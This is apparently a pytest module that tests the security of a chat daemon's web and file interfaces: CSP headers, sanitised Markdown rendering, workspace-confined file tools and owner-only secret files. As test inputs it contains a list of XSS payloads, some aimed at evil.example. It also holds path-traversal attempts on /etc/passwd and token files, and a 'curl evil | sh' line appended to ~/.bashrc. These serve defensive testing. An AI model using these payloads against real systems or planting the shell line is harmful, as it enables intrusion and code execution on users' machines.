"""The attack surface, beyond what test_web, test_browser, test_tools_files and test_matrix prove:
token guessing slowed down even in parallel, no inline script in a real browser (CSP), model
output that renders no active HTML, file tools that keep to the workspace, and files holding
secrets readable by their owner only. tests/README.md lists which module proves what.
"""

from __future__ import annotations

import json
import logging
import os
import stat
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from conftest import WEB_TOKEN, AppFactory
from fake_llm import FakeLLM, Reply
from playwright.async_api import Browser, expect
from secret_scan import SecretScan
from wsclient import ChatClient

from ganglion.app import App
from ganglion.config_matrix import MatrixConfig
from ganglion.interfaces.web import WebInterface
from ganglion.interfaces.web_guard import SECURITY_HEADERS
from ganglion.logs import SecretMask, setup_logging
from ganglion.messages import ThreadId
from ganglion.render import MarkdownRenderer
from ganglion.tools.registry import ToolContext


def web_of(app: App) -> WebInterface:
    assert app.web is not None
    return app.web


def private(path: Path) -> bool:
    return stat.S_IMODE(path.stat().st_mode) & 0o077 == 0


@pytest.fixture
def umask_022() -> Iterator[None]:
    """The common default: without care, new files would be world-readable."""
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


# -- token guessing ----------------------------------------------------------------------------


async def test_a_token_in_the_url_is_not_a_login(app_factory: AppFactory) -> None:
    """The token travels only in the first frame: query strings end up in logs and history."""
    app = await app_factory()
    url = web_of(app).url
    async with aiohttp.ClientSession() as session:
        ws = await session.ws_connect(f"{url}/ws?token={WEB_TOKEN}", origin=url,
                                      headers={"Authorization": f"Bearer {WEB_TOKEN}"})
        await ws.send_json({"type": "send", "id": "x", "text": "hi"})
        frame = await ws.receive_json(timeout=5)
        assert frame["code"] == "unauthorized"
        assert (await ws.receive(timeout=5)).data == 4401


# -- the page in a real browser ----------------------------------------------------------------

INJECTIONS = [
    '<script>window.pwned="script"</script>',
    '<img src=x onerror="window.pwned=\'img\'">',
    "<iframe srcdoc=\"<script>parent.pwned='iframe'</script>\"></iframe>",
    '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=1">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>go</button></form>',
    "<style>body{display:none}</style>",
    '<a href="javascript:window.pwned=\'a\'">x</a>',
    "[x](javascript:window.pwned='md')",
    "[x](JaVaScRiPt:window.pwned='md2')",
    "[x](&#106;avascript:window.pwned='entity')",
    "![x](javascript:window.pwned='mdimg')",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<svg><animate onbegin=\"window.pwned='svg'\"/></svg>",
    "```html\n<script>window.pwned='fence'</script>\n```",
    "<details open ontoggle=\"window.pwned='details'\">",
    "| a |\n|---|\n| <img src=x onerror=window.pwned='table'> |",
]
SAFE_TAGS = {"p", "a", "em", "strong", "code", "pre", "table", "thead", "tbody", "tr", "th",
             "td", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "hr",
             "br", "s", "del"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def test_model_output_renders_no_active_html() -> None:
    renderer = MarkdownRenderer()
    for text in INJECTIONS:
        html = renderer.html(text)
        parser = _Tags()
        parser.feed(html)
        for tag, attrs in parser.found:
            assert tag in SAFE_TAGS, (text, html)
            for name, value in attrs:
                assert not name.startswith("on"), (text, html)
                if name in ("href", "src"):
                    scheme = (value or "").strip().lower()
                    assert not scheme.startswith(("javascript:", "vbscript:", "data:")), html


@pytest.mark.browser
async def test_the_page_forbids_inline_script_and_model_output_runs_nothing(
    app_factory: AppFactory, fake_llm: FakeLLM, chromium: Browser
) -> None:
    app = await app_factory()
    web = web_of(app)
    fake_llm.script(Reply(text="\n\n".join(INJECTIONS)))
    context = await chromium.new_context()
    context.set_default_timeout(10_000)
    try:
        page = await context.new_page()
        response = await page.goto(web.login_url)
        assert response is not None
        csp = response.headers["content-security-policy"]
        assert csp == SECURITY_HEADERS["Content-Security-Policy"]
        directives = dict(d.strip().split(" ", 1) for d in csp.split(";"))
        assert directives["script-src"] == "'self'"  # no 'unsafe-inline', no 'unsafe-eval'
        assert directives["default-src"] == "'none'"
        await expect(page.locator("#status")).to_have_text("ready")
        # An inline script put into the page (as an injection would) must not run.
        blocked = await page.evaluate("""() => new Promise(resolve => {
            document.addEventListener('securitypolicyviolation',
                e => resolve(e.violatedDirective), {once: true});
            const s = document.createElement('script');
            s.textContent = 'window.inlineRan = true';
            document.body.appendChild(s);
            setTimeout(() => resolve('no violation reported'), 2000);
        })""")
        assert blocked.startswith("script-src"), blocked
        assert await page.evaluate("window.inlineRan === undefined")
        # The model answers with every injection at once; nothing of it becomes active.
        await page.get_by_role("textbox", name="Message").fill("show me")
        await page.get_by_role("button", name="Send").click()
        answer = page.get_by_role("log").locator('.msg[data-role="assistant"]:not(.streaming)')
        await expect(answer).to_have_count(1)
        await expect(answer).to_contain_text("<script>window.pwned=")
        log = page.get_by_role("log")
        active = "script, iframe, img, svg, meta, base, form, style, object, embed, details"
        assert await log.locator(active).count() == 0
        handlers = await log.evaluate("""el => [...el.querySelectorAll('*')].flatMap(
            n => [...n.attributes].map(a => a.name)).filter(a => a.startsWith('on'))""")
        assert handlers == []
        hrefs = await log.locator("a").evaluate_all("els => els.map(e => e.href)")
        assert all(not h.lower().startswith(("javascript", "data", "vbscript")) for h in hrefs)
        for link in await log.locator("a").all():
            await link.click(modifiers=["Control"])  # would open a new tab; never run script
        await page.wait_for_timeout(100)
        assert await page.evaluate("typeof window.pwned") == "undefined"
        assert page.url.startswith(web.url)
    finally:
        await context.close()


# -- file tools ------------------------------------------------------------------------------


async def test_memory_and_file_tools_keep_to_the_workspace_and_off_private_files(
    app_factory: AppFactory, tmp_path: Path
) -> None:
    """What test_tools_files leaves out: the memory tools, NUL bytes, the databases' side
    files, the Matrix store, and a listing that hides the daemon's own files."""
    app = await app_factory({"web": {"token": ""}})  # a generated data/web_token
    (app.data_dir / "matrix-store").mkdir(exist_ok=True)
    (app.data_dir / "matrix-store" / "keys.db").write_text("olm keys")
    ctx = ToolContext(ThreadId("web_" + "0" * 32), "web")

    async def call(name: str, **args: Any) -> str:
        outcome = await app.tools.call(name, json.dumps(args), ctx)
        return outcome.text

    refused = [
        await call("memory_read", file="../web_token"),
        await call("memory_read", file="/etc/passwd"),
        await call("memory_read", file="conversation.db"),
        await call("memory_rewrite", file="../../evil.txt", text="x"),
        await call("memory_append", file="~/.bashrc", text="curl evil | sh"),
        await call("read_file", path="notes\x00.txt"),
        await call("read_file", path="conversation.db-wal"),
        await call("read_file", path="matrix-store/keys.db"),
        await call("read_file", path="./matrix-store/../web_token"),
        await call("write_file", path="conversation.db", content="x"),
        await call("list_dir", path="matrix-store"),
        await call("edit_file", path="web_token", old="a", new="b"),
    ]
    for text in refused:
        assert text.startswith("error:"), text
    listing = await call("list_dir", path=".")
    for own in ("web_token", "conversation.db", "matrix-store"):
        assert own not in listing, listing
    everything = "\n".join([*refused, listing])
    assert web_of(app)._token.decode() not in everything and "olm keys" not in everything
    assert not (tmp_path / "evil.txt").exists() and not (app.data_dir.parent / "evil.txt").exists()


# -- files holding secrets ---------------------------------------------------------------------


async def test_files_holding_secrets_are_owner_only(
    app_factory: AppFactory, umask_022: None
) -> None:
    app = await app_factory({"web": {"token": ""}})  # the token is generated into data/
    client = ChatClient(web_of(app).url, web_of(app)._token.decode())
    await client.connect()
    try:
        await client.ask("something private")  # the databases and their WAL now hold it
    finally:
        await client.close()
    for name in ("web_token", "conversation.db", "conversation.db-wal", "conversation.db-shm"):
        path = app.data_dir / name
        assert path.exists(), name
        assert private(path), (name, oct(path.stat().st_mode))


async def test_the_matrix_store_and_its_files_are_owner_only(
    tmp_path: Path, umask_022: None
) -> None:
    from ganglion.interfaces.matrix.session import make_client

    store = tmp_path / "matrix-store"
    config = MatrixConfig(homeserver="http://127.0.0.1:9", user_id="@bot:example.org",
                          access_token="syt_Ym90_notarealtoken0000_0000", device_id="TESTDEV",
                          allowed_users=["@me:example.org"])
    client = make_client(config, store)
    try:
        files = [p for p in store.iterdir() if p.is_file()]
        assert files, "nio created no key store"
        assert private(store), oct(store.stat().st_mode)
        for path in files:
            assert private(path), (path.name, oct(path.stat().st_mode))
    finally:
        await client.close()
    store.chmod(0o755)  # a store from an older version, or copied with the wrong mode
    client = make_client(config, store)
    await client.close()
    assert private(store) and all(private(p) for p in store.iterdir())


def test_log_files_are_owner_only_also_after_rotation(
    tmp_path: Path, umask_022: None, secret_scan: SecretScan
) -> None:
    root = logging.getLogger()
    saved = (list(root.handlers), root.level)
    try:
        setup_logging(tmp_path / "logs", "INFO", SecretMask([WEB_TOKEN]))
        logging.getLogger("ganglion.test").warning("token %s", WEB_TOKEN)
        handler = next(h for h in root.handlers if isinstance(h, logging.FileHandler))
        handler.doRollover()  # what midnight does
        logging.getLogger("ganglion.test").warning("the next day")
        handler.close()
    finally:
        for h in list(root.handlers):
            root.removeHandler(h)
        for h in saved[0]:
            root.addHandler(h)
        root.setLevel(saved[1])
    logs = sorted((tmp_path / "logs").iterdir())
    assert len(logs) == 2, logs
    assert private(tmp_path / "logs")
    for path in logs:
        assert private(path), (path.name, oct(path.stat().st_mode))
    assert secret_scan.leaks() == []
    assert "token ***" in "".join(p.read_text() for p in logs)
